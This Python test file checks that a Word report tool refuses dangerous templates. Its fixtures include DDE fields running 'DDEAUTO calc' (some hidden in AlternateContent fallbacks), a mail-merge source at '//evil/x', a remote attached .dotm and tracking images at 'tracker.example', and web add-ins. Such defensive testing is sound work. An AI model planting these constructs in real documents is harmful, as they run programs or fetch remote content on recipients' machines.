"""Word templates that reach outside by ways that are seldom seen, and marks that nothing would fill in."""

from __future__ import annotations

import time

import pytest
from tests.report.test_docx import named, relation
from tests.report.word_templates import parts_of, template, texts

from tobfit import TobfitError
from tobfit.errors import Problem
from tobfit.report import docx
from tobfit.report.proposal.making import made
from tobfit.report.proposal.making_parts import field, run
from tobfit.report.proposal.making_styles import HEAD, R, W
from tobfit.report.proposal.package import packed

OFFICE = "application/vnd.openxmlformats-officedocument.wordprocessingml"
SPACES = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:z="urn:z"'


def refused(data: bytes) -> Problem:
    with pytest.raises(TobfitError) as raised:
        docx(named("Acme"), data)
    (problem,) = raised.value.problems
    return problem


def with_parts(**parts: bytes) -> bytes:
    return packed(
        {**parts_of(template("x")), **{name.replace("__", "/") + ".xml": part for name, part in parts.items()}}
    )


def piece(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def code(said: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve"> {said} </w:instrText></w:r>'


CHOICE = (
    f'<mc:AlternateContent><mc:Choice Requires="z">{code("PAGE")}</mc:Choice>'
    f"<mc:Fallback>{code('DDEAUTO calc')}</mc:Fallback></mc:AlternateContent>"
)
IGNORED = f"<z:a>{code('PAGE')}</z:a>{code('DDEAUTO calc')}"


@pytest.mark.parametrize("codes", [CHOICE, IGNORED])
def test_a_field_of_which_word_passes_over_a_part_is_refused(codes: str) -> None:
    own = template(f"<w:p {SPACES}>{piece('begin')}{codes}{piece('separate')}{run('1')}{piece('end')}</w:p>")
    problem = refused(own)
    assert (problem.code, problem.path) == ("TF467", "template word/document.xml")


def test_a_text_box_may_have_fields() -> None:
    box = f"<z:box><w:txbxContent><w:p>{field('PAGE')}</w:p></w:txbxContent></z:box>"
    own = template(
        f'<w:p {SPACES}><w:r><mc:AlternateContent><mc:Choice Requires="z">{box}</mc:Choice><mc:Fallback>{box}'
        "</mc:Fallback></mc:AlternateContent></w:r></w:p>"
    )
    assert "1" in texts(docx(named("Acme"), own))


def test_fields_of_comments_are_looked_at() -> None:
    types = made("en")["[Content_Types].xml"].replace(
        b"</Types>", f'<Override PartName="/word/comments.xml" ContentType="{OFFICE}.comments+xml"/></Types>'.encode()
    )
    inside = f'<w:comment w:id="0"><w:p>{field("DDEAUTO calc")}</w:p></w:comment>'
    notes = f'{HEAD}<w:comments xmlns:w="{W}">{inside}</w:comments>'.encode()
    own = packed({**parts_of(template("x")), "[Content_Types].xml": types, "word/comments.xml": notes})
    assert (refused(own).code, refused(own).path) == ("TF467", "template word/comments.xml")


def test_a_mail_merge_is_refused() -> None:
    merge = b'<w:mailMerge><w:connectString w:val="Data Source=//evil/x"/></w:mailMerge><w:zoom'
    problem = refused(with_parts(word__settings=made("en")["word/settings.xml"].replace(b"<w:zoom", merge)))
    assert (problem.code, problem.path) == ("TF467", "template word/settings.xml")


def test_an_add_in_beside_the_document_is_refused() -> None:
    kind = "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes"
    own = made("en")["_rels/.rels"].replace(
        b"</Relationships>",
        f'<Relationship Id="rId9" Type="{kind}" Target="word/webextensions/taskpanes.xml"/></Relationships>'.encode(),
    )
    assert refused(packed({**parts_of(template("x")), "_rels/.rels": own})).code == "TF467"


def test_names_of_parts_are_taken_as_word_takes_them() -> None:
    outside = relation("image", "https://tracker.example/x", "External")
    parts = parts_of(template("x"))
    assert refused(packed({**parts, "word/_rels/header1.xml.RELS": outside})).code == "TF467"
    assert refused(packed({**parts, "word\\_rels\\header1.xml.rels": outside})).code == "TF464"
    assert refused(packed({**parts, "word/Document.xml": b"<a/>"})).code == "TF464"
    attached = relation("attachedTemplate", "https://tracker.example/x.dotm", "External")
    settings = parts["word/settings.xml"].replace(
        b"<w:zoom", f'<w:attachedTemplate xmlns:r="{R}" r:id="rId99"/><w:zoom'.encode()
    )
    own = packed({**parts, "word/_rels/settings.xml.RELS": attached, "word/settings.xml": settings})
    after = parts_of(docx(named("Acme"), own))
    assert b"attachedTemplate" not in after["word/settings.xml"] + after["word/_rels/settings.xml.RELS"]


@pytest.mark.parametrize("name", ["docProps__app", "docProps__custom", "customXml__item1"])
def test_a_mark_in_a_property_that_is_not_filled_in_is_told(name: str) -> None:
    """Content controls of cover pages show what stands there rather than their own text."""
    problem = refused(with_parts(**{name: b"<a><Company>{{ client.name }}</Company></a>"}))
    assert (problem.code, problem.path) == ("TF465", f"template {name.replace('__', '/')}.xml")


@pytest.mark.parametrize("text", ["{" * 60_000, "{{ a " * 20_000, "{# a " * 20_000, "{{ a }} {% " * 20_000])
def test_marks_that_are_not_closed_are_found_at_once(text: str) -> None:
    began = time.process_time()
    assert refused(template(text)).code == "TF465"
    assert time.process_time() - began < 4
